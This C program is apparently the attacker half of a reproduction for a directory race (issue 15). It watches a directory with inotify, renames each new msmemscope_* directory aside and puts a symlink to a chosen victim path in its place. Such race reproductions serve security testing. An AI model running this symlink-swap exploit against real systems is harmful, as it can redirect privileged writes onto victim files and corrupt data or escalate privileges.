/* The attacker of the output-directory race (issue 15): run as an unprivileged user who owns
 * ROOT, it watches ROOT with inotify and, the moment a directory named msmemscope_* appears,
 * moves it aside and puts a symlink to VICTIM in its place. Prints "swapped N" per swap;
 * stops when ROOT/stop exists (checked after every event) or after MAX swaps.
 * Usage: swap_watcher ROOT VICTIM MAX */
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: swap_watcher ROOT VICTIM MAX\n");
        return 2;
    }
    const char *root = argv[1], *victim = argv[2];
    int max = atoi(argv[3]);
    int in = inotify_init();
    if (in < 0 || inotify_add_watch(in, root, IN_CREATE) < 0) {
        perror("inotify");
        return 1;
    }
    printf("watching\n");
    fflush(stdout);
    char buf[64 * 1024] __attribute__((aligned(8)));
    int swaps = 0;
    for (;;) {
        ssize_t n = read(in, buf, sizeof buf);
        if (n <= 0)
            return 1;
        for (char *p = buf; p < buf + n;) {
            struct inotify_event *ev = (struct inotify_event *)p;
            p += sizeof *ev + ev->len;
            if (ev->len == 0)
                continue;
            if (strcmp(ev->name, "stop") == 0)
                return 0;
            if (!(ev->mask & IN_ISDIR) || strncmp(ev->name, "msmemscope_", 11) != 0)
                continue;
            char from[PATH_MAX], to[PATH_MAX];
            snprintf(from, sizeof from, "%s/%s", root, ev->name);
            snprintf(to, sizeof to, "%s/moved-%d", root, swaps);
            if (rename(from, to) == 0 && symlink(victim, from) == 0) {
                swaps++;
                printf("swapped %d %s\n", swaps, ev->name);
                fflush(stdout);
                if (swaps >= max)
                    return 0;
            }
        }
    }
}
